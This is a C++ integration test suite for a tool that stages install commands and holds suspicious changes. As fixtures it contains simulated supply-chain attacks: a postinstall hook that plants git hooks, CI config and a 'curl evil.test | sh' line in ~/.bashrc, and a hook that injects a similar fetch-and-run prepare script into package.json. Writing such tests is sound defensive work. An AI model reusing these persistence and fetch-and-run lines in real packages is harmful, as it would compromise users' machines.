// Staging, verdicts and promotion end to end: the real binary, as root and as an unprivileged
// user, with commands that write to the project, the home and /tmp. Every test checks both
// what the report and the exit code say and what the real project on the host holds.
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <functional>
#include <future>
#include <map>
#include <sstream>
#include <thread>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/fake_internet.h"
#include "tests/support/npm_registry.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

constexpr int kHeld = kExitHeld;
constexpr int kSuspicious = kExitSuspicious;
constexpr int kRejected = kExitRejected;

Who both_users() {
  return GENERATE(Who::Root, Who::Unprivileged);
}

// CI mode: a held run is never asked about.
const std::vector<std::string> kCi = {"CI=true"};

SandboxRun shell(const Scenario& s, const std::string& script,
                 const std::vector<std::string>& flags = {}) {
  auto run = s.run({"/bin/sh", "-c", script}, flags, kCi);
  UNSCOPED_INFO("sh -c " << script << "\nflags " << Catch::Detail::stringify(flags) << "\nexit "
                         << run.exit_code() << "\nstderr: " << run.result.err);
  return run;
}

// A shell run on a thread of its own, for a test that acts while it runs. Catch's macros are
// kept to the test's thread: get() checks the report and adds the run's context there.
class BackgroundShell {
 public:
  BackgroundShell(const Scenario& s, std::string script, std::vector<std::string> flags)
      : script_(std::move(script)), flags_(std::move(flags)) {
    future_ = std::async(std::launch::async, [&s, this] {
      return s.run_unchecked({"/bin/sh", "-c", script_}, flags_, kCi);
    });
  }
  // The thread refers to this object's script and flags.
  BackgroundShell(BackgroundShell&&) = delete;
  SandboxRun get() {
    auto run = Scenario::checked(future_.get());
    UNSCOPED_INFO("sh -c " << script_ << "\nflags " << Catch::Detail::stringify(flags_) << "\nexit "
                           << run.exit_code() << "\nstderr: " << run.result.err);
    return run;
  }

 private:
  std::string script_;
  std::vector<std::string> flags_;
  std::future<SandboxRun> future_;
};

BackgroundShell shell_in_background(const Scenario& s, std::string script,
                                    std::vector<std::string> flags = {}) {
  return BackgroundShell(s, std::move(script), std::move(flags));
}

std::string state_dir(const Scenario& s) {
  return s.home() + "/.local/state/safeinstall";
}

std::string run_id(const SandboxRun& run) {
  return run.report.at("run_id").get<std::string>();
}

// The line of `safeinstall runs` for `id`, empty when it is not listed.
std::string runs_line(const Scenario& s, const std::string& id) {
  auto listed = subcommand(s, {"runs"});
  std::istringstream lines(listed.out);
  for (std::string line; std::getline(lines, line);) {
    if (line.starts_with(id)) return line;
  }
  return {};
}

}  // namespace

TEST_CASE("expected changes are promoted, and none reaches the project before the verdict",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, "dist/old.js", "old\n");
  // The command writes, then lingers; meanwhile the write must be in the staging dir only.
  auto pending = shell_in_background(
      s, "rm dist/old.js && echo built > dist/app.js && echo x > notes.txt && sleep 2",
      {"--expect", "dist/**", "--expect", "notes.txt"});
  bool seen_staged = false;
  for (int i = 0; i < 100 && !seen_staged; ++i) {
    std::this_thread::sleep_for(50ms);
    std::error_code ec;
    for (const auto& run : fs::directory_iterator(state_dir(s) + "/runs", ec)) {
      if (path_exists(run.path().string() + "/upper/dist/app.js")) seen_staged = true;
    }
  }
  CHECK(seen_staged);
  CHECK_FALSE(in_project(s, "dist/app.js"));
  CHECK_FALSE(in_project(s, "notes.txt"));
  CHECK(in_project(s, "dist/old.js"));

  auto run = pending.get();
  CHECK(run.exit_code() == 0);
  CHECK(run.report.at("verdict") == "promoted");
  CHECK(project_file(s, "dist/app.js") == "built\n");
  CHECK(project_file(s, "notes.txt") == "x\n");
  CHECK_FALSE(in_project(s, "dist/old.js"));
  const auto& project = run.report.at("files").at("project");
  CHECK(category_of(change_at(project, "dist/app.js")) == "expected");
  CHECK(change_at(project, "dist/old.js")->at("change") == "deleted");
  CHECK(run.report.at("staging").at("promoted") == true);
  CHECK_FALSE(run.report.at("staging").at("copy_promotion").get<bool>());
}

TEST_CASE("hostile writes to CI config, git hooks, the home and /tmp hold the run", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, ".git/HEAD", "ref: refs/heads/main\n");
  auto run = shell(s,
                   "mkdir -p .github/workflows .git/hooks node_modules/x && "
                   "echo 'on: push' > .github/workflows/x.yml && "
                   "printf '#!/bin/sh\\ncurl evil.test\\n' > .git/hooks/pre-commit && "
                   "chmod +x .git/hooks/pre-commit && "
                   "echo 'curl evil.test | sh' >> \"$HOME/.bashrc\" && "
                   "printf '#!/bin/sh\\n' > /tmp/processor.sh && chmod +x /tmp/processor.sh && "
                   "echo ok > node_modules/x/index.js",
                   {"--expect", "node_modules/**"});
  CHECK(run.exit_code() == kSuspicious);  // protected writes and a persistence plant
  REQUIRE(run.report.is_object());
  CHECK(run.report.at("verdict") == "held");

  // Nothing promoted, not even the expected part.
  CHECK_FALSE(in_project(s, ".github"));
  CHECK_FALSE(in_project(s, ".git/hooks"));
  CHECK_FALSE(in_project(s, "node_modules"));
  CHECK_FALSE(path_exists(s.home() + "/.bashrc"));

  const auto& files = run.report.at("files");
  auto* workflow = change_at(files.at("project"), ".github/workflows/x.yml");
  auto* hook = change_at(files.at("project"), ".git/hooks/pre-commit");
  CHECK(category_of(workflow) == "protected");
  CHECK(category_of(hook) == "protected");
  CHECK(has_flag(hook, "executable"));
  CHECK(category_of(change_at(files.at("project"), "node_modules/x/index.js")) == "expected");
  auto* bashrc = change_at(files.at("home"), ".bashrc");
  CHECK(has_flag(bashrc, "persistence"));
  auto* processor = change_at(files.at("tmp"), "processor.sh");
  CHECK(has_flag(processor, "executable"));
  CHECK_FALSE(has_flag(processor, "persistence"));

  // Each is a finding with a severity, in violations[] too, and the risk sums them.
  auto plants = findings_of_kind(run.report, "persistence");
  REQUIRE(plants.size() == 1);
  CHECK(plants[0].at("path") == ".bashrc");
  CHECK(plants[0].at("severity") == "high");
  CHECK(findings_of_kind(run.report, "protected-write").size() >= 2);
  CHECK(violations_of_kind(run.report, "persistence").size() == 1);
  CHECK(violations_of_kind(run.report, "write").size() >= 2);
  CHECK(run.report.at("risk").at("level") == "high");
  CHECK(run.report.at("risk").at("score").get<int>() >= 75);
  CHECK(contains(run.result.err, "risk:"));
  CHECK(contains(run.result.err, "suspicious (persistence, high)"));

  // The receipt says why and what to do next.
  CHECK(contains(run.result.err, "verdict: held"));
  CHECK(contains(run.result.err, ".github/workflows/x.yml"));
  CHECK(contains(run.result.err, "safeinstall promote " + run_id(run)));
  CHECK(contains(run.result.err, "--allow-protected"));
}

TEST_CASE("a symlink leaving the project, a set-uid file or a fifo rejects the run", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  struct Case {
    std::string script, path, flag;
  };
  for (const auto& c :
       {Case{"ln -s /etc/passwd node_modules/link", "node_modules/link", "symlink-escape"},
        Case{"echo x > node_modules/tool && chmod 4755 node_modules/tool", "node_modules/tool",
             "setuid"},
        Case{"mkfifo node_modules/pipe", "node_modules/pipe", "special-file"}}) {
    INFO(c.script);
    auto run = shell(s, "mkdir -p node_modules && echo ok > node_modules/ok.js && " + c.script,
                     {"--expect", "node_modules/**", "--yes", "--allow-protected"});
    CHECK(run.exit_code() == kRejected);
    REQUIRE(run.report.is_object());
    CHECK(run.report.at("verdict") == "rejected");
    CHECK(has_flag(change_at(run.report.at("files").at("project"), c.path), c.flag));
    CHECK_FALSE(in_project(s, "node_modules"));
    // Never promotable later either.
    auto promote = subcommand(s, {"promote", "--allow-protected", run_id(run)});
    CHECK(promote.exit_code == kRejected);
    CHECK_FALSE(in_project(s, "node_modules"));
  }
}

TEST_CASE("with --yes a held run is promoted except protected paths, which need --allow-protected",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  const std::string script =
      "mkdir -p .github/workflows build && echo 'on: push' > .github/workflows/x.yml && "
      "echo out > build/out.txt";
  auto yes = shell(s, script, {"--yes"});
  CHECK(yes.exit_code() == 0);
  CHECK(yes.report.at("verdict") == "promoted");
  CHECK(project_file(s, "build/out.txt") == "out\n");
  CHECK_FALSE(in_project(s, ".github"));
  CHECK(contains(yes.result.err, "left out: .github"));

  fs::remove_all(s.project() + "/build");
  auto both = shell(s, script, {"--yes", "--allow-protected"});
  CHECK(both.exit_code() == 0);
  CHECK(both.report.at("verdict") == "promoted");
  CHECK(project_file(s, "build/out.txt") == "out\n");
  CHECK(project_file(s, ".github/workflows/x.yml") == "on: push\n");

  // Without either flag, in CI: held, nothing promoted.
  auto held = shell(s, "echo new > build/out.txt");
  CHECK(held.exit_code() == kHeld);
  CHECK(project_file(s, "build/out.txt") == "out\n");
}

TEST_CASE("a project changed under a kept run is not overwritten", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto staged = shell(s, "echo '{\"from\":\"run\"}' > package.json", {"--no-promote"});
  CHECK(staged.exit_code() == 0);
  CHECK(staged.report.at("verdict") == "staged");
  std::string id = run_id(staged);
  CHECK(contains(staged.result.err, id));

  // The user edits the same file meanwhile.
  host_write(s, "package.json", "{\"from\":\"user\"}\n");
  auto promote = subcommand(s, {"promote", id});
  CHECK(promote.exit_code == kHeld);
  CHECK(contains(promote.err, "package.json"));
  CHECK(contains(promote.err, "changed since the run began"));
  CHECK(project_file(s, "package.json") == "{\"from\":\"user\"}\n");
  // Kept: still listed, still promotable after a look.
  CHECK(contains(runs_line(s, id), "staged"));
  CHECK(path_exists(state_dir(s) + "/runs/" + id + "/upper/package.json"));
}

// The snapshot promotion compares against is taken beside the command, as it starts: an edit
// the user makes while the command runs is still never overwritten.
TEST_CASE("a file the user edits while the command runs is not overwritten", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, "notes.txt", "before\n");
  host_write(s, "other.txt", "untouched\n");
  auto running = shell_in_background(s, "sleep 2; echo run > notes.txt; echo run > new.txt",
                                     {"--expect", "*.txt"});
  for (int i = 0; i < 100 && !path_exists(state_dir(s) + "/runs"); ++i)
    std::this_thread::sleep_for(50ms);
  std::this_thread::sleep_for(500ms);
  host_write(s, "notes.txt", "the user's edit\n");
  auto run = running.get();
  CHECK(run.exit_code() == kHeld);
  CHECK(run.report.at("verdict") == "held");
  CHECK(contains(run.result.err, "notes.txt"));
  CHECK(contains(run.result.err, "changed since the run began"));
  CHECK(project_file(s, "notes.txt") == "the user's edit\n");
  CHECK_FALSE(in_project(s, "new.txt"));  // nothing at all was promoted
  CHECK(project_file(s, "other.txt") == "untouched\n");
  // The report times the steps, the snapshot beside the command among them.
  bool snapshot_timed = false;
  for (const auto& step : run.report.at("timings"))
    snapshot_timed |= contains(step.at("step").get<std::string>(), "snapshot");
  CHECK(snapshot_timed);
}

// Every path of the project with its content ("dir/" for directories), to see it unchanged.
std::map<std::string, std::string> project_tree(const Scenario& s) {
  std::map<std::string, std::string> tree;
  for (const auto& entry : fs::recursive_directory_iterator(s.project())) {
    std::string path = fs::relative(entry.path(), s.project()).string();
    tree[path] = entry.is_directory() ? "dir/" : read_file(entry.path().string());
  }
  return tree;
}

// `script` started through safeinstall (writes under lib/ expected), `meanwhile` done on the
// host while its command runs (after it started, before it writes anything).
SandboxRun run_while_host_changes(const Scenario& s, const std::string& script,
                                  const std::function<void()>& meanwhile) {
  auto running = shell_in_background(s, "sleep 2; " + script, {"--expect", "lib/**"});
  for (int i = 0; i < 100 && !path_exists(state_dir(s) + "/runs"); ++i)
    std::this_thread::sleep_for(50ms);
  std::this_thread::sleep_for(500ms);
  meanwhile();
  return running.get();
}

// Only the paths the run touches are checked after the command, against the moment it began:
// whatever the user does to one of them meanwhile holds the run, and nothing is promoted.
TEST_CASE("a path the run touches, modified, created or deleted while it runs, holds it",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, "lib/a.txt", "before\n");
  host_write(s, "lib/gone.txt", "before\n");
  auto [what, change] = GENERATE(
      std::pair<std::string, std::function<void(const Scenario&)>>{
          "modified", [](const Scenario& sc) { host_write(sc, "lib/a.txt", "the user's\n"); }},
      std::pair<std::string, std::function<void(const Scenario&)>>{
          "created", [](const Scenario& sc) { host_write(sc, "lib/new.txt", "the user's\n"); }},
      std::pair<std::string, std::function<void(const Scenario&)>>{
          "deleted", [](const Scenario& sc) { fs::remove(sc.project() + "/lib/a.txt"); }});
  INFO("the user's change: lib/ " << what);
  std::map<std::string, std::string> after_the_user;
  auto run = run_while_host_changes(
      s, "echo run > lib/a.txt; echo run > lib/new.txt; rm lib/gone.txt", [&] {
        change(s);
        after_the_user = project_tree(s);
      });
  CHECK(run.exit_code() == kHeld);
  CHECK(run.report.at("verdict") == "held");
  CHECK(contains(run.result.err, "changed since the run began"));
  CHECK(contains(run.result.err, "lib"));
  CHECK(project_tree(s) == after_the_user);  // nothing at all was promoted
}

TEST_CASE("a change the user makes while the run runs, to a path it does not touch, is no conflict",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, "lib/a.txt", "before\n");
  host_write(s, "src/keep.txt", "before\n");
  host_write(s, "src/gone.txt", "before\n");
  auto run = run_while_host_changes(s, "echo run > lib/a.txt; echo run > lib/new.txt", [&] {
    host_write(s, "src/keep.txt", "the user's\n");
    host_write(s, "src/new.txt", "the user's\n");
    fs::remove(s.project() + "/src/gone.txt");
  });
  CHECK(run.exit_code() == 0);
  CHECK(run.report.at("verdict") == "promoted");
  CHECK(project_file(s, "lib/a.txt") == "run\n");
  CHECK(project_file(s, "lib/new.txt") == "run\n");
  CHECK(project_file(s, "src/keep.txt") == "the user's\n");
  CHECK(project_file(s, "src/new.txt") == "the user's\n");
  CHECK_FALSE(in_project(s, "src/gone.txt"));
}

// A promotion of 2,000 or more replaced entries leaves its old trees and staged tree to a
// detached cleaner; the project's files share inodes with them, so each removed name moves a
// ctime in the project. The cleaner removes those names only under the project's lock: a run
// waiting for that lock, which starts as the large one ends and touches such a file, is
// promoted, not held for an edit nobody made.
TEST_CASE("a run right after a large promotion is not held by its clean-up", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  for (int i = 0; i < 2100; ++i) host_write(s, "big/f" + std::to_string(i), "old\n");
  auto large = shell_in_background(s, "sleep 1; for f in big/*; do echo new > $f; done",
                                   {"--expect", "big/**"});
  for (int i = 0; i < 100 && !path_exists(state_dir(s) + "/runs"); ++i)
    std::this_thread::sleep_for(50ms);
  std::this_thread::sleep_for(300ms);
  // Waits for the large run's lock, and runs while its clean-up goes on.
  auto next = shell(s, "sleep 2; echo next > big/f7", {"--expect", "big/**"});
  auto first = large.get();
  REQUIRE(first.exit_code() == 0);
  CHECK(first.report.at("verdict") == "promoted");
  CHECK(next.exit_code() == 0);
  CHECK(next.report.at("verdict") == "promoted");
  CHECK(project_file(s, "big/f7") == "next\n");
  CHECK(project_file(s, "big/f8") == "new\n");
}

TEST_CASE("staging only with --no-promote, then runs, promote, discard and gc", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto first = shell(s, "echo one > one.txt", {"--no-promote"});
  auto second = shell(s, "echo two > two.txt", {"--no-promote"});
  CHECK(first.exit_code() == 0);
  CHECK(second.exit_code() == 0);
  CHECK_FALSE(in_project(s, "one.txt"));
  CHECK_FALSE(in_project(s, "two.txt"));
  std::string one = run_id(first), two = run_id(second);
  CHECK(contains(runs_line(s, one), "staged"));
  CHECK(contains(runs_line(s, two), s.project()));

  CHECK(subcommand(s, {"promote", one}).exit_code == 0);
  CHECK(project_file(s, "one.txt") == "one\n");
  CHECK(contains(runs_line(s, one), "promoted"));
  CHECK(subcommand(s, {"promote", one}).exit_code == 125);  // once only

  CHECK(subcommand(s, {"discard", two}).exit_code == 0);
  CHECK(contains(runs_line(s, two), "discarded"));
  CHECK_FALSE(in_project(s, "two.txt"));
  auto again = subcommand(s, {"promote", two});
  CHECK(again.exit_code == 125);
  CHECK(contains(again.err, "discarded"));

  auto unknown = subcommand(s, {"promote", "20200101T000000Z-00000000"});
  CHECK(unknown.exit_code == 125);
  CHECK(contains(unknown.err, "safeinstall runs"));
  CHECK(subcommand(s, {"discard", "../../etc"}).exit_code == 125);

  auto gc = subcommand(s, {"gc", "--older-than", "0"});
  CHECK(gc.exit_code == 0);
  CHECK(runs_line(s, one).empty());
  CHECK(runs_line(s, two).empty());
  CHECK_FALSE(path_exists(state_dir(s) + "/runs/" + two));
}

TEST_CASE("two runs on one project never interleave", "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto first = shell_in_background(s, "echo A > a.txt && sleep 2", {"--expect", "*.txt"});
  // The second starts while the first holds the project.
  for (int i = 0; i < 100 && !path_exists(state_dir(s) + "/runs"); ++i)
    std::this_thread::sleep_for(50ms);
  std::this_thread::sleep_for(500ms);
  auto second = shell(s, "cat a.txt > seen.txt; echo B > b.txt", {"--expect", "*.txt"});
  auto a = first.get();
  CHECK(a.exit_code() == 0);
  CHECK(second.exit_code() == 0);
  CHECK(contains(second.result.err, "waiting for another safeinstall run on " + s.project()));
  // The second run began after the first was promoted: it saw a.txt.
  CHECK(project_file(s, "seen.txt") == "A\n");
  CHECK(project_file(s, "b.txt") == "B\n");
}

TEST_CASE("exit codes in CI: promoted 0, held 122, rejected 123, failed the command's",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  CHECK(shell(s, "echo a > a.txt", {"--expect", "a.txt"}).exit_code() == 0);
  CHECK(shell(s, "echo b > b.txt").exit_code() == kHeld);
  CHECK(shell(s, "mkfifo f").exit_code() == kRejected);

  auto failed = shell(s, "echo c > c.txt; exit 3", {"--expect", "c.txt"});
  CHECK(failed.exit_code() == 3);
  CHECK(failed.report.at("verdict") == "failed");
  CHECK_FALSE(in_project(s, "c.txt"));

  auto anyway = shell(s, "echo d > d.txt; exit 3", {"--expect", "d.txt", "--promote-on-failure"});
  CHECK(anyway.exit_code() == 3);
  CHECK(anyway.report.at("verdict") == "promoted");
  CHECK(project_file(s, "d.txt") == "d\n");
  CHECK(project_file(s, "a.txt") == "a\n");
  CHECK_FALSE(in_project(s, "b.txt"));
  CHECK_FALSE(in_project(s, "f"));
}

// The real npm against a registry served in the tests' own fake internet.
namespace {

// A postinstall that plants all four: CI config and a git hook in the project (INIT_CWD is
// where npm was run), a shell rc line in the home and an executable in /tmp.
constexpr const char* kHostileHook =
    R"(const fs = require('fs'), path = require('path'), os = require('os');
const project = process.env.INIT_CWD;
fs.mkdirSync(path.join(project, '.github', 'workflows'), { recursive: true });
fs.writeFileSync(path.join(project, '.github', 'workflows', 'x.yml'), 'on: push\n');
fs.mkdirSync(path.join(project, '.git', 'hooks'), { recursive: true });
fs.writeFileSync(path.join(project, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n', { mode: 0o755 });
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl evil.test | sh\n');
fs.writeFileSync('/tmp/processor.sh', '#!/bin/sh\n', { mode: 0o755 });
console.log('hook: planted');
)";

}  // namespace

TEST_CASE("npm install and npm ci: node_modules and the lockfile are promoted", "[staging][npm]") {
  Who who = both_users();
  SKIP_UNLESS_INSTALL_TEST(who, "npm");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(net.registry_root(), "http://registry.test/",
                     {{.name = "left-pad-lite",
                       .version = "1.0.0",
                       .files = {{"index.js", "module.exports = (s) => ' ' + s;\n"}}},
                      {.name = "uses-left",
                       .version = "2.1.0",
                       .dependencies = {{"left-pad-lite", "^1.0.0"}},
                       .files = {{"index.js", "module.exports = require('left-pad-lite');\n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"uses-left\":\"^2.0.0\"");

  auto install = run_npm(s, {"install"});
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "promoted");
  CHECK(project_file(s, "node_modules/left-pad-lite/index.js") ==
        "module.exports = (s) => ' ' + s;\n");
  CHECK(in_project(s, "node_modules/uses-left/package.json"));
  REQUIRE(in_project(s, "package-lock.json"));
  CHECK(contains(project_file(s, "package-lock.json"),
                 "http://registry.test/uses-left/-/uses-left-2.1.0.tgz"));
  const auto& files = install.report.at("files").at("project");
  CHECK(category_of(change_at(files, "package-lock.json")) == "expected");
  CHECK(category_of(change_at(files, "node_modules")) == "expected");
  CHECK(net.wait_for_log(FakeInternet::Log::Registry, "GET /uses-left/-/uses-left-2.1.0.tgz"));

  // npm ci replaces node_modules wholesale: one swap, the same packages.
  struct stat before {};
  REQUIRE(::stat((s.project() + "/node_modules").c_str(), &before) == 0);
  auto ci = run_npm(s, {"ci"});
  CHECK(ci.exit_code() == 0);
  REQUIRE(ci.report.is_object());
  CHECK(ci.report.at("verdict") == "promoted");
  CHECK(project_file(s, "node_modules/left-pad-lite/index.js") ==
        "module.exports = (s) => ' ' + s;\n");
  struct stat after {};
  REQUIRE(::stat((s.project() + "/node_modules").c_str(), &after) == 0);
  CHECK(after.st_ino != before.st_ino);
}

TEST_CASE(
    "a package whose postinstall plants CI config, a git hook, a shell rc and /tmp "
    "payload is held with nothing promoted",
    "[staging][npm]") {
  Who who = both_users();
  SKIP_UNLESS_INSTALL_TEST(who, "npm");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "friendly-utils",
        .version = "3.0.0",
        .scripts = {{"postinstall", "node hook.js"}},
        .files = {{"index.js", "module.exports = 1;\n"}, {"hook.js", kHostileHook}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"friendly-utils\":\"3.0.0\"");
  std::string package_json = project_file(s, "package.json");

  auto run = run_npm(s, {"install", "--foreground-scripts"}, {"--scripts", "all"});
  CHECK(contains(run.result.out + run.result.err, "hook: planted"));
  CHECK(run.exit_code() == kSuspicious);  // protected writes and a persistence plant
  REQUIRE(run.report.is_object());
  CHECK(run.report.at("verdict") == "held");

  // Nothing promoted: not the hostile paths, and not node_modules or the lockfile either.
  CHECK_FALSE(in_project(s, ".github"));
  CHECK_FALSE(in_project(s, ".git"));
  CHECK_FALSE(in_project(s, "node_modules"));
  CHECK_FALSE(in_project(s, "package-lock.json"));
  CHECK(project_file(s, "package.json") == package_json);
  CHECK_FALSE(path_exists(s.home() + "/.bashrc"));

  const auto& files = run.report.at("files");
  CHECK(category_of(change_at(files.at("project"), ".github/workflows/x.yml")) == "protected");
  auto* hook = change_at(files.at("project"), ".git/hooks/pre-commit");
  CHECK(category_of(hook) == "protected");
  CHECK(has_flag(hook, "executable"));
  CHECK(category_of(change_at(files.at("project"), "node_modules")) == "expected");
  CHECK(has_flag(change_at(files.at("home"), ".bashrc"), "persistence"));
  CHECK(has_flag(change_at(files.at("tmp"), "processor.sh"), "executable"));
  CHECK(contains(run.result.err, "safeinstall promote " + run_id(run)));
}

TEST_CASE(
    "with the state dir on another filesystem, staging goes beside the project and "
    "promotion still renames",
    "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  struct stat shm {};
  if (::stat("/dev/shm", &shm) != 0) {
    WARN("skipped: no /dev/shm to put a state dir on another filesystem");
    return;
  }
  Scenario s(who);
  // /dev/shm is a tmpfs, the project is not: staging cannot be in the state dir.
  std::string state = "/dev/shm/si-state-" + std::to_string(::getpid()) + "-" + name_of(who);
  std::string staging_root = fs::path(s.project()).parent_path().string() + "/.safeinstall-staging";
  auto run = s.run({"/bin/sh", "-c", "echo out > out.txt"}, {"--expect", "out.txt"},
                   {"CI=true", "SAFEINSTALL_STATE_DIR=" + state});
  fs::remove_all(state);
  INFO("stderr: " << run.result.err);
  CHECK(run.exit_code() == 0);
  REQUIRE(run.report.is_object());
  CHECK(run.report.at("verdict") == "promoted");
  CHECK(project_file(s, "out.txt") == "out\n");
  const auto& staging = run.report.at("staging");
  CHECK(staging.at("staging_dir").get<std::string>().starts_with(staging_root + "/"));
  CHECK_FALSE(staging.at("copy_promotion").get<bool>());
  struct stat st {};
  REQUIRE(::stat(staging_root.c_str(), &st) == 0);
  CHECK((st.st_mode & 0777) == 0700);
  CHECK(st.st_uid == s.uid());
}

TEST_CASE("a profile's direct dir is staged outside the overlay, judged the same, never made empty",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  host_write(s, "package.json", "{}\n");
  const std::vector<std::string> npm = {"--profile", "npm"};

  SECTION("written through a bind of the upper dir, promoted like any expected change") {
    // The bind shows as its own mount; a hard link from the overlay into it crosses mounts.
    auto run = shell(s,
                     "grep -q \" $PWD/node_modules \" /proc/self/mountinfo && "
                     "mkdir -p node_modules/a && echo a > node_modules/a/index.js && "
                     "! ln package.json node_modules/a/linked.json 2>/dev/null",
                     npm);
    CHECK(run.exit_code() == 0);
    CHECK(run.report.at("verdict") == "promoted");
    CHECK(project_file(s, "node_modules/a/index.js") == "a\n");
    CHECK_FALSE(in_project(s, "node_modules/a/linked.json"));
    const auto& project = run.report.at("files").at("project");
    CHECK(category_of(change_at(project, "node_modules/a/index.js")) == "expected");
  }
  SECTION("held like any other run: nothing reaches the project before the verdict") {
    auto run =
        shell(s, "mkdir node_modules/b && echo b > node_modules/b/x.js && echo y > y.txt", npm);
    CHECK(run.exit_code() == kHeld);
    CHECK_FALSE(in_project(s, "node_modules"));
    CHECK(change_at(run.report.at("files").at("project"), "node_modules/b/x.js") != nullptr);
  }
  SECTION("left empty, it is not promoted") {
    auto run = shell(s, "test -d node_modules", npm);
    CHECK(run.exit_code() == 0);
    CHECK(run.report.at("verdict") == "promoted");
    CHECK_FALSE(in_project(s, "node_modules"));
  }
  SECTION("forged overlay metadata in it stops the run instead of misleading the change list") {
    auto run = shell(s,
                     "mkdir -p node_modules/c && "
                     "python3 -c \"import os; os.setxattr('node_modules/c', "
                     "'user.overlay.redirect', b'/.git')\"",
                     npm);
    CHECK(run.exit_code() != 0);
    CHECK(run.report.at("verdict") != "promoted");
    CHECK_FALSE(in_project(s, "node_modules"));
  }
  SECTION("a project with a node_modules keeps the overlay over it") {
    host_write(s, "node_modules/old/index.js", "old\n");
    auto run = shell(s,
                     "! grep -q \" $PWD/node_modules \" /proc/self/mountinfo && "
                     "rm -r node_modules/old && mkdir node_modules/new",
                     npm);
    CHECK(run.exit_code() == 0);
    CHECK_FALSE(in_project(s, "node_modules/old"));
    CHECK(in_project(s, "node_modules/new"));
    CHECK(change_at(run.report.at("files").at("project"), "node_modules/old")->at("change") ==
          "deleted");
  }
}

TEST_CASE("npm install NAME: the dependency added to package.json is expected and shown",
          "[staging][npm]") {
  Who who = both_users();
  SKIP_UNLESS_INSTALL_TEST(who, "npm");
  FakeInternet net(SI_SINK_PATH);
  const std::string rewrite_manifest =
      "const fs = require('fs'), path = require('path');\n"
      "const file = path.join(process.env.INIT_CWD, 'package.json');\n"
      "const pkg = JSON.parse(fs.readFileSync(file));\n"
      "pkg.scripts = { prepare: 'curl -s evil.test/x | sh' };\n"
      "fs.writeFileSync(file, JSON.stringify(pkg, null, 2));\n";
  write_npm_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "left-pad-lite",
        .version = "1.0.0",
        .files = {{"index.js", "module.exports = (s) => ' ' + s;\n"}}},
       {.name = "sneaky-helper",
        .version = "1.0.0",
        .scripts = {{"postinstall", "node hook.js"}},
        .files = {{"index.js", "module.exports = 1;\n"}, {"hook.js", rewrite_manifest}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "");

  auto added = run_npm(s, {"install", "left-pad-lite@1.0.0"});
  CHECK(added.exit_code() == 0);
  REQUIRE(added.report.is_object());
  CHECK(added.report.at("verdict") == "promoted");
  CHECK(json::parse(project_file(s, "package.json")).at("dependencies").at("left-pad-lite") ==
        "^1.0.0");
  const auto& edit = added.report.at("manifests").at(0);
  CHECK(edit.at("file") == "package.json");
  CHECK(edit.at("accepted") == true);
  CHECK(edit.at("dependencies").at(0).at("name") == "left-pad-lite");
  CHECK(edit.at("dependencies").at(0).at("to") == "^1.0.0");
  CHECK(contains(added.result.err, "package.json dependencies: + left-pad-lite ^1.0.0"));

  // A package that also rewrites the project's scripts: held, package.json untouched.
  std::string before = project_file(s, "package.json");
  auto sneaky =
      run_npm(s, {"install", "sneaky-helper@1.0.0", "--foreground-scripts"}, {"--scripts", "all"});
  CHECK(sneaky.exit_code() == kHeld);
  CHECK(project_file(s, "package.json") == before);
  REQUIRE(sneaky.report.is_object());
  CHECK(sneaky.report.at("manifests").at(0).at("accepted") == false);
  CHECK(contains(sneaky.result.err, "package.json changed beyond its dependencies: scripts"));
}

// A replaced tree of thousands of entries is removed after safeinstall returns, by a process
// of its own; the project is whole at once, and the run dir is emptied soon after.
TEST_CASE("a large promotion returns before the old tree is removed, which follows on its own",
          "[staging]") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  std::string make_tree =
      "mkdir -p out && cd out && for d in $(seq 50); do mkdir d$d && "
      "(cd d$d && for f in $(seq 45); do echo $1 > f$f; done); done";
  auto first = shell(s, "set -- old; " + make_tree, {"--expect", "out/**"});
  REQUIRE(first.exit_code() == 0);
  auto second = shell(s, "set -- new; rm -rf out && " + make_tree, {"--expect", "out/**"});
  REQUIRE(second.exit_code() == 0);
  CHECK(second.report.at("verdict") == "promoted");
  CHECK(second.report.at("staging").at("cleanup") == "background");
